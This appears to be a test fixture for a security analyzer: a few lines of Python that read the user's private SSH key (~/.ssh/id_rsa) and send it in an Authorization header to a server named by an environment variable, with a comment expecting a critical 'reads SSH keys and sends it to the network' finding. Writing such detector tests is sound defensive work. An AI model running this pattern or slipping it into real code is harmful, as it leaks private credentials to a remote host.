import os
from pathlib import Path

import requests

base = os.environ["FORGE_URL"].rstrip("/")
key = (Path.home() / ".ssh" / "id_rsa").read_text()  # want "critical SV281: reads SSH keys .*and sends it to the network [(]line 9[)]"
hdrs = {"Authorization": "key " + key}
requests.get(base + "/api/v1/user", headers=hdrs)
